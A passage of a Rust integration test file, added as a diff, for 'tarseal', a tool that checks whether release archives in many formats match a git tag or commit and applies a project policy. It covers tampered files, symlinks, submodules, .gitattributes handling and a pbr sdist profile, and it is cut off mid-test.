@@ -1,0 +1,1088 @@
+//! End to end: `tarseal check` classifies every path of real archives made by real tools from
+//! real git repositories, judges it under the policy, and exits with the code of DESIGN.md §3.
+
+mod common;
+
+use common::*;
+use std::fs;
+use std::path::Path;
+
+const TAG: [&str; 2] = ["--tag", "v1.0"];
+
+// ---------------------------------------------------------------------------------------------
+// Identical archives in every container and compression.
+// ---------------------------------------------------------------------------------------------
+
+fn assert_identical(f: &Fixture, archive: &Path, format: &str) {
+    let r = f.check(archive, &TAG);
+    r.assert_clean_pass();
+    assert_eq!(r.json["archive"]["format"], format, "format\n{r}");
+    assert_eq!(r.json["archive"]["prefix"], "proj-1.0", "prefix\n{r}");
+    assert_eq!(r.json["git"]["commit"], f.rev("v1.0^{commit}"), "{r}");
+    // 6 paths in git: README, src/main.c, bin/run.sh, link, docs/dir/a.txt, empty.txt.
+    assert_eq!(r.json["summary"]["matched"], 6, "{r}");
+    assert_eq!(r.json["summary"]["unexpected"], 0, "{r}");
+}
+
+#[test]
+fn identical_tar() {
+    let f = Fixture::standard();
+    let t = f.tar_v1();
+    assert_identical(&f, &t, "tar");
+    // git archive's pax comment names the tag's commit: the cross-check ran and passed.
+    let r = f.check(&t, &TAG);
+    assert_eq!(r.cross_check("git-archive-commit")["status"], "ok", "{r}");
+    assert_eq!(r.json["archive"]["pax_comment"], f.rev("v1.0^{commit}"));
+}
+
+#[test]
+fn identical_tar_gz() {
+    let f = Fixture::standard();
+    let t = f.archive("v1.0", "proj-1.0", "tar.gz", "proj-1.0.tar.gz");
+    assert_identical(&f, &t, "tar.gz");
+}
+
+#[test]
+fn identical_tar_xz() {
+    let f = Fixture::standard();
+    assert_identical(&f, &compress(&f.tar_v1(), "xz"), "tar.xz");
+}
+
+#[test]
+fn identical_tar_bz2() {
+    let f = Fixture::standard();
+    assert_identical(&f, &compress(&f.tar_v1(), "bzip2"), "tar.bz2");
+}
+
+#[test]
+fn identical_tar_zst() {
+    let f = Fixture::standard();
+    assert_identical(&f, &compress(&f.tar_v1(), "zstd"), "tar.zst");
+}
+
+#[test]
+fn identical_zip() {
+    let f = Fixture::standard();
+    let z = f.archive("v1.0", "proj-1.0", "zip", "proj-1.0.zip");
+    assert_identical(&f, &z, "zip");
+}
+
+#[test]
+fn identical_zip_made_by_zip_cli() {
+    let f = Fixture::standard();
+    let tree = f.extract_v1();
+    let out = f.scratch("proj-1.0.zip");
+    // -y stores symlinks as symlinks, -X leaves out extra attributes.
+    run_ok(
+        std::process::Command::new("zip")
+            .args(["-q", "-r", "-y", "-X"])
+            .arg(&out)
+            .arg("proj-1.0")
+            .current_dir(&tree),
+    );
+    assert_identical(&f, &out, "zip");
+}
+
+#[test]
+fn identical_crate_named_tar_gz() {
+    let f = Fixture::standard();
+    let t = f.archive("v1.0", "proj-1.0", "tar.gz", "x.tar.gz");
+    assert_identical(&f, &copy_as(&t, "proj-1.0.crate"), "tar.gz");
+}
+
+#[test]
+fn identical_tgz() {
+    let f = Fixture::standard();
+    let t = compress(&f.tar_v1(), "gzip");
+    assert_identical(&f, &copy_as(&t, "proj-1.0.tgz"), "tar.gz");
+}
+
+#[test]
+fn identical_repacked_with_gnu_tar_every_format() {
+    let f = Fixture::standard();
+    let tree = f.extract_v1();
+    for format in ["ustar", "gnu", "pax", "v7"] {
+        let t = f.pack(&tree, "proj-1.0", format, &format!("{format}.tar"));
+        let r = f.check(&t, &TAG);
+        r.assert_clean_pass();
+        assert_eq!(r.json["summary"]["matched"], 6, "{format}\n{r}");
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// One difference each.
+// ---------------------------------------------------------------------------------------------
+
+/// Extracts the v1.0 archive, lets `change` alter the tree under `proj-1.0/`, re-packs it.
+fn altered(f: &Fixture, change: impl FnOnce(&Path)) -> std::path::PathBuf {
+    let tree = f.extract_v1();
+    change(&tree.join("proj-1.0"));
+    f.pack(&tree, "proj-1.0", "gnu", "altered.tar")
+}
+
+#[test]
+fn one_modified_byte() {
+    let f = Fixture::standard();
+    let t = altered(&f, |d| {
+        let p = d.join("src/main.c");
+        let mut b = fs::read(&p).unwrap();
+        b[4] ^= 0x01; // "int main" -> "int!main"... one byte
+        fs::write(&p, b).unwrap();
+    });
+    let r = f.check(&t, &TAG);
+    r.assert_report(1, "fail")
+        .assert_findings(&[("src/main.c", "modified", "unexpected")])
+        .assert_text_mentions("src/main.c")
+        .assert_text_mentions("verdict  FAIL");
+    let fd = r.finding("src/main.c", "modified");
+    let git_blob = f.rev("v1.0:src/main.c");
+    assert!(
+        fd["detail"].as_str().unwrap().contains(&git_blob),
+        "detail names git's blob\n{r}"
+    );
+}
+
+#[test]
+fn added_file() {
+    let f = Fixture::standard();
+    let t = altered(&f, |d| fs::write(d.join("src/evil.c"), "evil\n").unwrap());
+    let r = f.check(&t, &TAG);
+    r.assert_report(1, "fail")
+        .assert_findings(&[("src/evil.c", "extra", "unexpected")])
+        .assert_text_mentions("src/evil.c");
+    let fd = r.finding("src/evil.c", "extra");
+    assert_eq!(
+        fd["sha256"],
+        sha256_hex(b"evil\n"),
+        "extra files carry sha256\n{r}"
+    );
+    assert_eq!(fd["size"], 5);
+}
+
+#[test]
+fn missing_file() {
+    let f = Fixture::standard();
+    let t = altered(&f, |d| fs::remove_file(d.join("docs/dir/a.txt")).unwrap());
+    let r = f.check(&t, &TAG);
+    r.assert_report(1, "fail")
+        .assert_findings(&[("docs/dir/a.txt", "missing", "unexpected")])
+        .assert_text_mentions("docs/dir/a.txt");
+}
+
+#[test]
+fn flipped_executable_bit() {
+    use std::os::unix::fs::PermissionsExt;
+    let f = Fixture::standard();
+    let t = altered(&f, |d| {
+        fs::set_permissions(d.join("bin/run.sh"), fs::Permissions::from_mode(0o644)).unwrap();
+        fs::set_permissions(d.join("README"), fs::Permissions::from_mode(0o755)).unwrap();
+    });
+    let r = f.check(&t, &TAG);
+    r.assert_report(1, "fail")
+        .assert_findings(&[
+            ("bin/run.sh", "mode", "unexpected"),
+            ("README", "mode", "unexpected"),
+        ])
+        .assert_text_mentions("bin/run.sh");
+}
+
+#[test]
+fn file_replaced_by_symlink() {
+    let f = Fixture::standard();
+    let t = altered(&f, |d| {
+        make_symlink(&d.join("docs/dir/a.txt"), "../../README")
+    });
+    let r = f.check(&t, &TAG);
+    r.assert_report(1, "fail")
+        .assert_findings(&[("docs/dir/a.txt", "type", "unexpected")])
+        .assert_text_mentions("docs/dir/a.txt");
+}
+
+#[test]
+fn symlink_replaced_by_file() {
+    let f = Fixture::standard();
+    let t = altered(&f, |d| write_file(&d.join("link"), b"README", 0o644));
+    let r = f.check(&t, &TAG);
+    // Same bytes as git's link blob, but a file instead of a symlink.
+    r.assert_report(1, "fail")
+        .assert_findings(&[("link", "type", "unexpected")]);
+}
+
+#[test]
+fn retargeted_symlink() {
+    let f = Fixture::standard();
+    let t = altered(&f, |d| make_symlink(&d.join("link"), "src/main.c"));
+    let r = f.check(&t, &TAG);
+    r.assert_report(1, "fail")
+        .assert_findings(&[("link", "modified", "unexpected")])
+        .assert_text_mentions("link");
+    let detail = r.finding("link", "modified")["detail"].as_str().unwrap();
+    assert!(
+        detail.contains("src/main.c"),
+        "detail names the new target\n{r}"
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// .gitattributes of the tag's tree.
+// ---------------------------------------------------------------------------------------------
+
+#[test]
+fn export_ignore_absent_is_allowed() {
+    let f = Fixture::new();
+    f.populate_standard();
+    f.write(
+        ".gitattributes",
+        "secret.txt export-ignore\n/ci/** export-ignore\n",
+    );
+    f.write("secret.txt", "internal\n");
+    f.write("ci/job.yaml", "job: 1\n");
+    f.commit("c");
+    f.tag("v1.0");
+    let t = f.tar_v1();
+    let r = f.check(&t, &TAG);
+    r.assert_report(0, "pass").assert_findings(&[
+        ("secret.txt", "missing", "allowed"),
+        ("ci/job.yaml", "missing", "allowed"),
+    ]);
+    for p in ["secret.txt", "ci/job.yaml"] {
+        assert_eq!(
+            r.finding(p, "missing")["rule"],
+            "builtin:export-ignore",
+            "{r}"
+        );
+    }
+}
+
+#[test]
+fn export_ignore_in_the_tarball_is_not_consulted() {
+    // A .gitattributes that only the tarball has must not make a missing file acceptable.
+    let f = Fixture::standard();
+    let t = altered(&f, |d| {
+        fs::write(d.join(".gitattributes"), "src/main.c export-ignore\n").unwrap();
+        fs::remove_file(d.join("src/main.c")).unwrap();
+    });
+    let r = f.check(&t, &TAG);
+    r.assert_report(1, "fail").assert_findings(&[
+        (".gitattributes", "extra", "unexpected"),
+        ("src/main.c", "missing", "unexpected"),
+    ]);
+}
+
+const SUBST: &str = "version: $Format:%H %h %an %ad %cs %d$\nplain line\n";
+
+fn subst_fixture() -> Fixture {
+    let f = Fixture::new();
+    f.populate_standard();
+    f.write(".gitattributes", "version.txt export-subst\n");
+    f.write("version.txt", SUBST);
+    f.commit("c");
+    f.tag("v1.0");
+    f
+}
+
+#[test]
+fn export_subst_git_archive_passes() {
+    let f = subst_fixture();
+    let t = f.tar_v1();
+    // Sanity: git did expand the placeholders.
+    let tree = f.extract(&t);
+    let expanded = fs::read_to_string(tree.join("proj-1.0/version.txt")).unwrap();
+    assert!(!expanded.contains("$Format"), "{expanded}");
+    assert!(expanded.contains(&f.rev("v1.0^{commit}")), "{expanded}");
+    let r = f.check(&t, &TAG);
+    r.assert_clean_pass();
+    assert!(
+        r.notes().iter().any(|n| n.contains("version.txt")),
+        "a note names the expanded file\n{r}"
+    );
+}
+
+#[test]
+fn export_subst_unexpanded_original_passes() {
+    let f = subst_fixture();
+    let t = altered(&f, |d| fs::write(d.join("version.txt"), SUBST).unwrap());
+    f.check(&t, &TAG).assert_clean_pass();
+}
+
+#[test]
+fn export_subst_other_expansion_fails() {
+    let f = subst_fixture();
+    let t = altered(&f, |d| {
+        let p = d.join("version.txt");
+        let s = fs::read_to_string(&p).unwrap();
+        let commit = f.rev("v1.0^{commit}");
+        let other = "0123456789abcdef0123456789abcdef01234567";
+        fs::write(&p, s.replace(&commit, other)).unwrap();
+    });
+    let r = f.check(&t, &TAG);
+    r.assert_report(1, "fail")
+        .assert_findings(&[("version.txt", "modified", "unexpected")]);
+}
+
+// ---------------------------------------------------------------------------------------------
+// The tag.
+// ---------------------------------------------------------------------------------------------
+
+#[test]
+fn tag_republished_under_another_name() {
+    let f = Fixture::standard();
+    let tag_object = f.rev("refs/tags/v1.0");
+    f.git(&["update-ref", "refs/tags/v2.0", &tag_object]);
+    let t = f.tar_v1();
+    let r = f.check(&t, &["--tag", "v2.0"]);
+    r.assert_code(1)
+        .assert_stderr_mentions("v2.0")
+        .assert_stderr_mentions("v1.0")
+        .assert_stderr_mentions(&tag_object);
+    assert_eq!(r.json["schema"], "tarseal.error/v1", "{r}");
+    assert_eq!(r.json["exit_code"], 1, "{r}");
+    // The real name still checks.
+    f.check(&t, &TAG).assert_clean_pass();
+}
+
+#[test]
+fn lightweight_tag_refused_unless_allowed() {
+    let f = Fixture::standard();
+    f.git(&["tag", "v1.0-light"]);
+    let t = f.tar_v1();
+    let r = f.check(&t, &["--tag", "v1.0-light"]);
+    r.assert_code(1).assert_stderr_mentions("lightweight");
+    assert!(
+        r.stderr.contains("--allow-lightweight"),
+        "says what to do\n{r}"
+    );
+
+    let r = f.check(&t, &["--tag", "v1.0-light", "--allow-lightweight"]);
+    r.assert_clean_pass();
+    assert_eq!(r.json["git"]["annotated"], false, "{r}");
+    assert!(
+        r.notes().iter().any(|n| n.contains("LIGHTWEIGHT")),
+        "loud note\n{r}"
+    );
+    r.assert_text_mentions("LIGHTWEIGHT");
+}
+
+#[test]
+fn allow_lightweight_still_accepts_annotated_tags() {
+    let f = Fixture::standard();
+    let r = f.check(&f.tar_v1(), &["--tag", "v1.0", "--allow-lightweight"]);
+    r.assert_clean_pass();
+    assert_eq!(r.json["git"]["annotated"], true, "{r}");
+    assert!(!r.notes().iter().any(|n| n.contains("LIGHTWEIGHT")), "{r}");
+}
+
+#[test]
+fn commit_revision() {
+    let f = Fixture::standard();
+    f.write("src/main.c", "int main(void) { return 1; }\n");
+    f.commit("second");
+    let t = f.archive("HEAD~1", "proj-1.0", "tar", "old.tar");
+    let r = f.check(&t, &["--commit", "HEAD~1"]);
+    r.assert_clean_pass();
+    assert_eq!(r.json["git"]["target_kind"], "commit");
+    assert_eq!(r.json["git"]["commit"], f.rev("HEAD~1"));
+    // The same archive against HEAD: the file differs and the pax comment names HEAD~1.
+    let r = f.check(&t, &["--commit", "HEAD"]);
+    r.assert_report(1, "fail")
+        .assert_findings(&[("src/main.c", "modified", "unexpected")]);
+    assert_eq!(
+        r.cross_check("git-archive-commit")["status"],
+        "failed",
+        "{r}"
+    );
+    // And by full id.
+    f.check(&t, &["--commit", &f.rev("HEAD~1")])
+        .assert_clean_pass();
+}
+
+#[test]
+fn sha256_repository() {
+    let f = Fixture::new_sha256();
+    f.populate_standard();
+    f.commit("initial");
+    f.tag("v1.0");
+    let commit = f.rev("v1.0^{commit}");
+    assert_eq!(commit.len(), 64);
+    let t = f.tar_v1();
+    let r = f.check(&t, &TAG);
+    r.assert_clean_pass();
+    assert_eq!(r.json["git"]["object_format"], "sha256", "{r}");
+    assert_eq!(r.json["summary"]["matched"], 6, "{r}");
+
+    let t = altered(&f, |d| {
+        fs::write(d.join("README"), "hellO, world\n").unwrap()
+    });
+    let r = f.check(&t, &TAG);
+    r.assert_report(1, "fail")
+        .assert_findings(&[("README", "modified", "unexpected")]);
+    let detail = r.finding("README", "modified")["detail"].as_str().unwrap();
+    assert!(detail.contains(&f.rev("v1.0:README")), "{r}");
+}
+
+#[test]
+fn sha256_repository_zip_and_xz() {
+    let f = Fixture::new_sha256();
+    f.populate_standard();
+    f.commit("initial");
+    f.tag("v1.0");
+    f.check(&compress(&f.tar_v1(), "xz"), &TAG)
+        .assert_clean_pass();
+    f.check(&f.archive("v1.0", "proj-1.0", "zip", "p.zip"), &TAG)
+        .assert_clean_pass();
+}
+
+// ---------------------------------------------------------------------------------------------
+// Sub-directories and prefixes.
+// ---------------------------------------------------------------------------------------------
+
+fn monorepo() -> Fixture {
+    let f = Fixture::new();
+    f.write("README", "top\n");
+    f.write("pkg/README", "pkg\n");
+    f.write("pkg/src/lib.c", "int x;\n");
+    f.write_exec("pkg/build.sh", "#!/bin/sh\n");
+    f.write("other/a.txt", "other\n");
+    f.commit("c");
+    f.tag("v1.0");
+    f
+}
+
+#[test]
+fn subdir_git_archive_of_tree() {
+    let f = monorepo();
+    let t = f.archive("v1.0:pkg", "pkg-1.0", "tar", "pkg-1.0.tar");
+    for sub in ["pkg/", "pkg"] {
+        let r = f.check(&t, &["--tag", "v1.0", "--subdir", sub]);
+        r.assert_clean_pass();
+        assert_eq!(r.json["summary"]["matched"], 3, "{r}");
+        assert_eq!(r.json["git"]["subdir"], "pkg", "{r}");
+    }
+    // Without --subdir the same archive is missing everything else and has wrong paths.
+    f.check(&t, &TAG).assert_report(1, "fail");
+}
+
+#[test]
+fn subdir_tar_of_the_directory() {
+    let f = monorepo();
+    let tree = f.extract(&f.archive("v1.0", "", "tar", "all.tar"));
+    fs::rename(tree.join("pkg"), tree.join("pkg-1.0")).unwrap();
+    let t = f.pack(&tree, "pkg-1.0", "pax", "pkg-1.0.tar");
+    let r = f.check(
+        &compress(&t, "gzip"),
+        &["--tag", "v1.0", "--subdir", "pkg/"],
+    );
+    r.assert_clean_pass();
+}
+
+#[test]
+fn subdir_that_does_not_exist_is_a_usage_error() {
+    let f = monorepo();
+    let t = f.archive("v1.0:pkg", "pkg-1.0", "tar", "pkg-1.0.tar");
+    let r = f.check(&t, &["--tag", "v1.0", "--subdir", "nope"]);
+    r.assert_code(2).assert_stderr_mentions("nope");
+}
+
+#[test]
+fn prefix_detected_name_version() {
+    let f = Fixture::standard();
+    let t = f.archive("v1.0", "name-1.2.3", "tar.gz", "name-1.2.3.tar.gz");
+    let r = f.check(&t, &TAG);
+    r.assert_clean_pass();
+    assert_eq!(r.json["archive"]["prefix"], "name-1.2.3");
+    assert_eq!(r.json["archive"]["prefix_given"], false);
+}
+
+#[test]
+fn prefix_given() {
+    let f = Fixture::standard();
+    let t = f.archive("v1.0", "name-1.2.3", "tar", "name-1.2.3.tar");
+    let r = f.check(&t, &["--tag", "v1.0", "--prefix", "name-1.2.3/"]);
+    r.assert_clean_pass();
+    assert_eq!(r.json["archive"]["prefix"], "name-1.2.3");
+    assert_eq!(r.json["archive"]["prefix_given"], true);
+    // A wrong given prefix: nothing lies inside it.
+    let r = f.check(&t, &["--tag", "v1.0", "--prefix", "other-1.0"]);
+    r.assert_report(1, "fail");
+}
+
+#[test]
+fn no_prefix() {
+    let f = Fixture::standard();
+    let t = f.archive("v1.0", "", "tar", "flat.tar");
+    let r = f.check(&t, &["--tag", "v1.0", "--prefix", ""]);
+    r.assert_clean_pass();
+    assert_eq!(r.json["archive"]["prefix"], "");
+    assert_eq!(r.json["summary"]["matched"], 6);
+    // Detected as well: the first entry is a directory (bin/) that does not hold everything.
+    let r = f.check(&t, &TAG);
+    r.assert_clean_pass();
+    assert_eq!(r.json["archive"]["prefix"], "", "{r}");
+}
+
+#[test]
+fn no_prefix_zip() {
+    let f = Fixture::standard();
+    let t = f.archive("v1.0", "", "zip", "flat.zip");
+    f.check(&t, &["--tag", "v1.0", "--prefix", ""])
+        .assert_clean_pass();
+}
+
+#[test]
+fn npm_style_package_prefix() {
+    let f = Fixture::standard();
+    let t = f.archive("v1.0", "package", "tar.gz", "proj-1.0.tgz");
+    let r = f.check(&t, &TAG);
+    r.assert_clean_pass();
+    assert_eq!(r.json["archive"]["prefix"], "package");
+}
+
+#[test]
+fn pax_comment_names_another_commit() {
+    let f = Fixture::standard();
+    f.commit("no change"); // --allow-empty: same tree, another commit
+    f.tag("v1.1");
+    assert_eq!(f.rev("v1.0^{tree}"), f.rev("v1.1^{tree}"));
+    let t = f.tar_v1();
+    let r = f.check(&t, &["--tag", "v1.1"]);
+    r.assert_report(1, "fail");
+    assert!(r.findings().is_empty(), "every path matches\n{r}");
+    let c = r.cross_check("git-archive-commit");
+    assert_eq!(c["status"], "failed", "{r}");
+    let detail = c["detail"].as_str().unwrap();
+    assert!(detail.contains(&f.rev("v1.0^{commit}")), "{r}");
+    assert!(detail.contains(&f.rev("v1.1^{commit}")), "{r}");
+    r.assert_text_mentions("FAILED");
+}
+
+// ---------------------------------------------------------------------------------------------
+// Submodules.
+// ---------------------------------------------------------------------------------------------
+
+fn submodule_fixture() -> Fixture {
+    let f = Fixture::new();
+    f.populate_standard();
+    f.write(
+        ".gitmodules",
+        "[submodule \"sub\"]\n\tpath = sub\n\turl = https://example.invalid/sub.git\n",
+    );
+    f.git(&["add", "-A"]);
+    let fake = "1234567890123456789012345678901234567890";
+    f.git(&[
+        "update-index",
+        "--add",
+        "--cacheinfo",
+        &format!("160000,{fake},sub"),
+    ]);
+    f.git(&["commit", "-q", "-m", "with submodule"]);
+    f.tag("v1.0");
+    f
+}
+
+#[test]
+fn submodule_empty_dir_passes() {
+    let f = submodule_fixture();
+    let t = f.tar_v1();
+    let r = f.check(&t, &TAG);
+    r.assert_clean_pass();
+}
+
+#[test]
+fn submodule_content_is_unverifiable() {
+    let f = submodule_fixture();
+    let t = altered(&f, |d| {
+        fs::create_dir_all(d.join("sub/src")).unwrap();
+        fs::write(d.join("sub/src/lib.c"), "int sub;\n").unwrap();
+    });
+    let r = f.check(&t, &TAG);
+    r.assert_report(3, "indeterminate");
+    // The file is unverifiable; its directory sub/src may be reported too, nothing else.
+    r.assert_paths_only(&["sub/src/lib.c", "sub/src"]);
+    let fd = r.finding("sub/src/lib.c", "unverifiable");
+    assert_eq!(fd["judgement"], "indeterminate", "{r}");
+    r.assert_text_mentions("sub/src/lib.c");
+}
+
+#[test]
+fn submodule_content_allowed_by_policy() {
+    let f = submodule_fixture();
+    let t = altered(&f, |d| {
+        fs::create_dir_all(d.join("sub")).unwrap();
+        fs::write(d.join("sub/lib.c"), "int sub;\n").unwrap();
+    });
+    let p = f.policy_file(
+        "[[rule]]\npath = \"sub/**\"\nallow = [\"unverifiable\"]\nreason = \"vendored submodule, checked separately\"\n",
+    );
+    let r = f.check(&t, &["--tag", "v1.0", "--policy", p.to_str().unwrap()]);
+    r.assert_report(0, "pass")
+        .assert_findings(&[("sub/lib.c", "unverifiable", "allowed")]);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Project policy.
+// ---------------------------------------------------------------------------------------------
+
+const GEN: &str = "generated at release time\n";
+
+fn with_generated(f: &Fixture) -> std::path::PathBuf {
+    altered(f, |d| fs::write(d.join("GENERATED.txt"), GEN).unwrap())
+}
+
+#[test]
+fn policy_file_allows_extra_with_reason() {
+    let f = Fixture::standard();
+    let t = with_generated(&f);
+    let p = f.policy_file(
+        "[[rule]]\npath = \"GENERATED.txt\"\nallow = [\"extra\"]\nreason = \"written by the release script\"\n",
+    );
+    let r = f.check(&t, &["--tag", "v1.0", "--policy", p.to_str().unwrap()]);
+    r.assert_report(0, "pass")
+        .assert_findings(&[("GENERATED.txt", "extra", "allowed")]);
+    let fd = r.finding("GENERATED.txt", "extra");
+    assert_eq!(fd["rule"], "policy:1", "{r}");
+    assert_eq!(fd["reason"], "written by the release script", "{r}");
+    assert_eq!(r.json["summary"]["not_backed_files"], 1, "{r}");
+    assert_eq!(r.json["summary"]["not_backed_bytes"], GEN.len(), "{r}");
+    r.assert_text_mentions("GENERATED.txt")
+        .assert_text_mentions("written by the release script");
+    // Without the policy the same archive fails.
+    f.check(&t, &TAG)
+        .assert_report(1, "fail")
+        .assert_findings(&[("GENERATED.txt", "extra", "unexpected")]);
+}
+
+#[test]
+fn policy_pinned_sha256() {
+    let f = Fixture::standard();
+    let t = with_generated(&f);
+    let rule = |sha: &str| {
+        format!("[[rule]]\npath = \"GENERATED.txt\"\nallow = [\"extra\"]\nreason = \"release script\"\nsha256 = \"{sha}\"\n")
+    };
+    let good = f.policy_file(&rule(&sha256_hex(GEN.as_bytes())));
+    f.check(&t, &["--tag", "v1.0", "--policy", good.to_str().unwrap()])
+        .assert_report(0, "pass")
+        .assert_findings(&[("GENERATED.txt", "extra", "allowed")]);
+
+    let bad = f.policy_file(&rule(&sha256_hex(b"something else\n")));
+    let r = f.check(&t, &["--tag", "v1.0", "--policy", bad.to_str().unwrap()]);
+    r.assert_report(1, "fail")
+        .assert_findings(&[("GENERATED.txt", "extra", "unexpected")]);
+    let reason = r.finding("GENERATED.txt", "extra")["reason"]
+        .as_str()
+        .unwrap();
+    assert!(reason.contains("pinned"), "{r}");
+}
+
+#[test]
+fn policy_stale_rule_reported() {
+    let f = Fixture::standard();
+    let t = f.tar_v1();
+    let p = f.policy_file(
+        "[[rule]]\npath = \"NEWS.generated\"\nallow = [\"extra\"]\nreason = \"old release script output\"\n",
+    );
+    let r = f.check(&t, &["--tag", "v1.0", "--policy", p.to_str().unwrap()]);
+    r.assert_clean_pass();
+    let stale = r.json["policy"]["stale_rules"].as_array().unwrap();
+    assert_eq!(stale.len(), 1, "{r}");
+    assert_eq!(stale[0]["rule"], "policy:1");
+    assert_eq!(stale[0]["path"], "NEWS.generated");
+    r.assert_text_mentions("STALE")
+        .assert_text_mentions("NEWS.generated");
+}
+
+#[test]
+fn policy_in_the_tags_tree_is_honoured() {
+    let f = Fixture::new();
+    f.populate_standard();
+    f.write(
+        ".tarseal.toml",
+        "[[rule]]\npath = \"GENERATED.txt\"\nallow = [\"extra\"]\nreason = \"release notes rendered by CI\"\n",
+    );
+    f.commit("c");
+    f.tag("v1.0");
+    let t = with_generated(&f);
+    let r = f.check(&t, &TAG);
+    r.assert_report(0, "pass")
+        .assert_findings(&[("GENERATED.txt", "extra", "allowed")]);
+    assert_eq!(r.finding("GENERATED.txt", "extra")["rule"], "policy:1");
+    let sources = r.json["policy"]["sources"].as_array().unwrap();
+    assert!(
+        sources
+            .iter()
+            .any(|s| s.as_str().unwrap().contains(".tarseal.toml")),
+        "{r}"
+    );
+}
+
+#[test]
+fn policy_in_the_tarball_is_not_honoured() {
+    let f = Fixture::standard();
+    let t = altered(&f, |d| {
+        fs::write(d.join("GENERATED.txt"), GEN).unwrap();
+        fs::write(
+            d.join(".tarseal.toml"),
+            "[[rule]]\npath = \"**\"\nallow = [\"extra\"]\nreason = \"anything goes\"\n",
+        )
+        .unwrap();
+    });
+    f.check(&t, &TAG)
+        .assert_report(1, "fail")
+        .assert_findings(&[
+            ("GENERATED.txt", "extra", "unexpected"),
+            (".tarseal.toml", "extra", "unexpected"),
+        ]);
+}
+
+#[test]
+fn policy_rule_without_reason_is_a_usage_error() {
+    let f = Fixture::standard();
+    let t = with_generated(&f);
+    let missing = f.policy_file("[[rule]]\npath = \"GENERATED.txt\"\nallow = [\"extra\"]\n");
+    let r = f.check(
+        &t,
+        &["--tag", "v1.0", "--policy", missing.to_str().unwrap()],
+    );
+    r.assert_code(2).assert_stderr_mentions("reason");
+    let empty =
+        f.policy_file("[[rule]]\npath = \"GENERATED.txt\"\nallow = [\"extra\"]\nreason = \"  \"\n");
+    let r = f.check(&t, &["--tag", "v1.0", "--policy", empty.to_str().unwrap()]);
+    r.assert_code(2)
+        .assert_stderr_mentions("no reason")
+        .assert_stderr_mentions("GENERATED.txt");
+}
+
+#[test]
+fn unknown_profile_is_a_usage_error() {
+    let f = Fixture::standard();
+    let r = f.check(&f.tar_v1(), &["--tag", "v1.0", "--profile", "yolo"]);
+    r.assert_code(2).assert_stderr_mentions("yolo");
+}
+
+// ---------------------------------------------------------------------------------------------
+// Profiles: pbr.
+// ---------------------------------------------------------------------------------------------
+
+const SETUP_CFG: &str = "[metadata]\nname = proj\nsummary = A project\nclassifier =\n    Programming Language :: Python\n    License :: OSI Approved\n\n[entry_points]\nconsole_scripts =\n    proj-api = proj.cmd.api:main\n";
+
+fn pbr_fixture() -> Fixture {
+    let f = Fixture::new();
+    f.write("setup.cfg", SETUP_CFG);
+    f.write(
+        "setup.py",
+        "import setuptools\nsetuptools.setup(pbr=True)\n",
+    );
+    f.write("proj/__init__.py", "");
+    f.write("proj/cmd/api.py", "def main():\n    pass\n");
+    f.write(".gitreview", "[gerrit]\nhost=review.example.org\n");
+    f.commit("c");
+    f.tag("1.0.0");
+    f
+}
+
+/// An sdist as pbr writes it. `setup_cfg` and `version` vary per test.
+fn pbr_sdist(f: &Fixture, setup_cfg: &str, version: &str) -> std::path::PathBuf {
+    let tree = f.extract(&f.archive("1.0.0", "proj-1.0.0", "tar", "git.tar"));
+    let d = tree.join("proj-1.0.0");
+    fs::remove_file(d.join(".gitreview")).unwrap();
+    let pkg_info =
+        format!("Metadata-Version: 2.1\nName: proj\nVersion: {version}\nSummary: A project\n\nlong description\n");
+    fs::write(d.join("PKG-INFO"), &pkg_info).unwrap();
+    fs::create_dir(d.join("proj.egg-info")).unwrap();
+    fs::write(d.join("proj.egg-info/PKG-INFO"), &pkg_info).unwrap();
+    fs::write(
+        d.join("proj.egg-info/SOURCES.txt"),
+        "setup.cfg\nsetup.py\nproj/__init__.py\n",
+    )
+    .unwrap();
+    fs::write(
+        d.join("proj.egg-info/entry_points.txt"),
+        "[console_scripts]\nproj-api = proj.cmd.api:main\n",
+    )
+    .unwrap();
+    fs::write(d.join("proj.egg-info/top_level.txt"), "proj\n").unwrap();
+    fs::write(
+        d.join("proj.egg-info/pbr.json"),
+        format!(
+            "{{\"git_version\": \"{}\", \"is_release\": true}}",
+            &f.rev("HEAD")[..7]
+        ),
+    )
+    .unwrap();
+    fs::write(d.join("AUTHORS"), "Ada Author <ada@example.org>\n").unwrap();
+    fs::write(d.join("ChangeLog"), "CHANGES\n=======\n\n* c\n").unwrap();
+    fs::write(d.join("setup.cfg"), setup_cfg).unwrap();
+    f.pack(&tree, "proj-1.0.0", "pax", "proj-1.0.0.tar.gz")
+}
+
+/// setup.cfg as setuptools writes it back: `=` everywhere, tab-indented continuation lines,
+/// an `[egg_info]` section.
+const SETUP_CFG_SDIST: &str = "[metadata]\nname = proj\nsummary = A project\nclassifier = \n\tProgramming Language :: Python\n\tLicense :: OSI Approved\n\n[entry_points]\nconsole_scripts = \n\tproj-api = proj.cmd.api:main\n\n[egg_info]\ntag_build = \ntag_date = 0\n\n";
+
+#[test]
+fn pbr_sdist_passes() {
+    let f = pbr_fixture();
+    let t = pbr_sdist(&f, SETUP_CFG_SDIST, "1.0.0");
+    let r = f.check(&t, &["--tag", "1.0.0", "--profile", "pbr"]);
+    r.assert_report(0, "pass").assert_findings(&[
+        (".gitreview", "missing", "allowed"),
+        ("AUTHORS", "extra", "allowed"),
+        ("ChangeLog", "extra", "allowed"),
+        ("PKG-INFO", "extra", "allowed"),
+        ("proj.egg-info/PKG-INFO", "extra", "allowed"),
+        ("proj.egg-info/SOURCES.txt", "extra", "allowed"),
+        ("proj.egg-info/entry_points.txt", "extra", "allowed"),
+        ("proj.egg-info/top_level.txt", "extra", "allowed"),
+        ("proj.egg-info/pbr.json", "extra", "allowed"),
+        ("setup.cfg", "modified", "allowed"),
+    ]);
+    assert_eq!(
+        r.finding("setup.cfg", "modified")["rule"],
+        "profile:pbr/setup.cfg"
+    );
+    assert_eq!(
+        r.finding("PKG-INFO", "extra")["rule"],
+        "profile:pbr/PKG-INFO"
+    );
+    for c in r.cross_checks() {
+        assert_eq!(c["status"], "ok", "{r}");
+    }
+    assert!(
+        r.cross_checks()
+            .iter()
+            .any(|c| c["name"].as_str().unwrap().starts_with("pkg-info-version")),
+        "{r}"
+    );
+    // The default profile (git-archive, exact) refuses the very same sdist.
+    f.check(&t, &["--tag", "1.0.0"]).assert_report(1, "fail");
+}
+
+#[test]
+fn pbr_sdist_with_new_entry_point_fails() {
+    let f = pbr_fixture();
+    let cfg = SETUP_CFG_SDIST.replace(
